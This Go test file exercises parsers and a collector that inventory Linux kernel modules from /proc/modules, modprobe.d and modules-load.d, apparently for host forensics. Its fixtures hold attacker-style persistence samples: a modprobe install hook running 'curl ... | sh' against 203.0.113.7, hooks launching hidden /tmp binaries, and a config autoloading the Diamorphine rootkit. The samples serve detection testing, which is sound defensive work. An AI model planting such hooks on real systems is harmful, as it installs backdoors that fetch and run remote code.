package kmod

import (
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/base/snapshot"
	"github.com/nowwhat/nowwhat/internal/probe"
)

const procModules = `nvidia_uvm 1986560 0 - Live 0x0000000000000000 (POE)
diamorphine 16384 0 - Live 0xffffffffc0a00000 (OE)
xt_conntrack 16384 2 - Live 0xffffffffc0980000
nf_conntrack 172032 2 xt_conntrack,nf_nat, Live 0xffffffffc08a0000
loading 4096 0 - Loading 0x0
broken line
`

func TestParseProcModules(t *testing.T) {
	got, err := ParseProcModules([]byte(procModules))
	want := []Loaded{
		{Name: "nvidia_uvm", Size: 1986560, State: "Live", Taint: "POE"},
		{Name: "diamorphine", Size: 16384, State: "Live", Taint: "OE"},
		{Name: "xt_conntrack", Size: 16384, Refs: 2, State: "Live"},
		{Name: "nf_conntrack", Size: 172032, Refs: 2, Deps: []string{"xt_conntrack", "nf_nat"}, State: "Live"},
		{Name: "loading", Size: 4096, State: "Loading"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
	var le *LineError
	if !errors.As(err, &le) || !reflect.DeepEqual(le.Lines, []int{6}) {
		t.Errorf("err = %v", err)
	}
}

func TestParseModprobeConf(t *testing.T) {
	text := "# comment\nblacklist pcspkr\ninstall usb-storage /bin/sh -c 'curl -s http://203.0.113.7/x | sh'; \\\n  /sbin/modprobe --ignore-install usb-storage\noptions snd-hda-intel power_save=1\nremove dummy /tmp/.r\ninstall lonely\nfrobnicate x\n"
	got, err := ParseModprobeConf([]byte(text))
	want := []Directive{
		{Line: 2, Cmd: "blacklist", Module: "pcspkr"},
		{Line: 3, Cmd: "install", Module: "usb-storage", Args: "/bin/sh -c 'curl -s http://203.0.113.7/x | sh'; /sbin/modprobe --ignore-install usb-storage"},
		{Line: 5, Cmd: "options", Module: "snd-hda-intel", Args: "power_save=1"},
		{Line: 6, Cmd: "remove", Module: "dummy", Args: "/tmp/.r"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
	var le *LineError
	if !errors.As(err, &le) || !reflect.DeepEqual(le.Lines, []int{7, 8}) {
		t.Errorf("err = %v", err)
	}
}

func TestParseModuleList(t *testing.T) {
	tests := []struct {
		text     string
		withArgs bool
		want     []ListEntry
	}{
		{"# /etc/modules\nloop\n\nlp io=0x378\n", true, []ListEntry{{2, "loop", ""}, {4, "lp", "io=0x378"}}},
		{"; comment\n# comment\n  br_netfilter  \n", false, []ListEntry{{3, "br_netfilter", ""}}},
	}
	for _, tt := range tests {
		if got := ParseModuleList([]byte(tt.text), tt.withArgs); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("ParseModuleList(%q) = %+v, want %+v", tt.text, got, tt.want)
		}
	}
}

func collect(t *testing.T, r *fixture.Root, live bool) *probe.Recorder {
	t.Helper()
	return r.Collect(Collector, live)
}

func TestCollector(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/proc/modules", procModules, 0o444)
	r.Append("/etc/modules", "loop\n")
	r.Symlink("../modules", "/etc/modules-load.d/modules.conf")
	r.File("/etc/modules-load.d/rootkit.conf", "diamorphine\n", 0o644)
	r.File("/usr/lib/modules-load.d/rootkit.conf", "shadowed\n", 0o644)
	r.File("/usr/lib/modules-load.d/masked.conf", "masked_mod\n", 0o644)
	r.Symlink("/dev/null", "/etc/modules-load.d/masked.conf")
	r.File("/run/modules-load.d/runtime.conf", "runtime_mod\n", 0o644)
	r.File("/etc/modprobe.d/usb.conf", "install usb-storage /bin/sh -c '/tmp/.x &'; /sbin/modprobe --ignore-install usb-storage\nblacklist pcspkr\n", 0o644)

	tests := []struct {
		name string
		live bool
		want []snapshot.Module
		not  []string // names that must not appear
	}{
		{
			name: "dead host",
			want: []snapshot.Module{
				{Name: "loop", State: "autoload", Source: "/etc/modules"},
				{Name: "diamorphine", State: "autoload", Source: "/etc/modules-load.d/rootkit.conf"},
				{Name: "usb-storage", State: "install-hook", Source: "/etc/modprobe.d/usb.conf", Detail: "/bin/sh -c '/tmp/.x &'; /sbin/modprobe --ignore-install usb-storage"},
			},
			not: []string{"shadowed", "masked_mod", "runtime_mod", "nvidia_uvm", "pcspkr"},
		},
		{
			name: "live host",
			live: true,
			want: []snapshot.Module{
				{Name: "diamorphine", State: "loaded", Source: "/proc/modules", Size: 16384, Taint: "OE"},
				{Name: "xt_conntrack", State: "loaded", Source: "/proc/modules", Size: 16384},
				{Name: "loop", State: "autoload", Source: "/etc/modules"},
				{Name: "diamorphine", State: "autoload", Source: "/etc/modules-load.d/rootkit.conf"},
				{Name: "runtime_mod", State: "autoload", Source: "/run/modules-load.d/runtime.conf"},
				{Name: "usb-storage", State: "install-hook", Source: "/etc/modprobe.d/usb.conf", Detail: "/bin/sh -c '/tmp/.x &'; /sbin/modprobe --ignore-install usb-storage"},
			},
			not: []string{"shadowed", "masked_mod"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := collect(t, r, tt.live)
			mods := probe.Of[snapshot.Module](rec)
			for _, w := range tt.want {
				found := false
				for _, m := range mods {
					found = found || m == w
				}
				if !found {
					t.Errorf("missing %+v", w)
				}
			}
			seen := map[string]bool{}
			for _, m := range mods {
				for _, n := range tt.not {
					if m.Name == n {
						t.Errorf("unexpected %+v", m)
					}
				}
				k := m.Name + " " + m.State
				if seen[k] {
					t.Errorf("duplicate %s", k)
				}
				seen[k] = true
			}
			// Only the bad line of the fake /proc/modules is a problem.
			for _, p := range rec.Problems {
				if p.Path != "/proc/modules" {
					t.Errorf("problem %+v", p)
				}
			}
		})
	}
}

func FuzzParseProcModules(f *testing.F) {
	f.Add([]byte(procModules))
	f.Add([]byte("a -1\nb 1 x y z w (\n(c) 2 (OE)\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		mods, _ := ParseProcModules(data)
		for _, m := range mods {
			if m.Name == "" || m.Size < 0 || strings.ContainsAny(m.Name, " \t\n") {
				t.Fatalf("bad module %+v", m)
			}
			for _, c := range m.Taint {
				if c < 'A' || c > 'Z' {
					t.Fatalf("bad taint %q", m.Taint)
				}
			}
		}
	})
}

func FuzzParseModprobeConf(f *testing.F) {
	f.Add([]byte("install usb-storage /bin/true\nremove x \\\n y\noptions a b=c\nblacklist z\n"))
	f.Add([]byte("install\\\n\\\n\\"))
	f.Fuzz(func(t *testing.T, data []byte) {
		dirs, _ := ParseModprobeConf(data)
		for _, d := range dirs {
			if !modprobeCmds[d.Cmd] || d.Module == "" || len(d.Args) > maxDetail {
				t.Fatalf("bad directive %+v", d)
			}
			if (d.Cmd == "install" || d.Cmd == "remove") && d.Args == "" {
				t.Fatalf("hook without command %+v", d)
			}
		}
		for _, e := range ParseModuleList(data, true) {
			if e.Name == "" || strings.ContainsAny(e.Name, " \t\n") {
				t.Fatalf("bad entry %+v", e)
			}
		}
	})
}
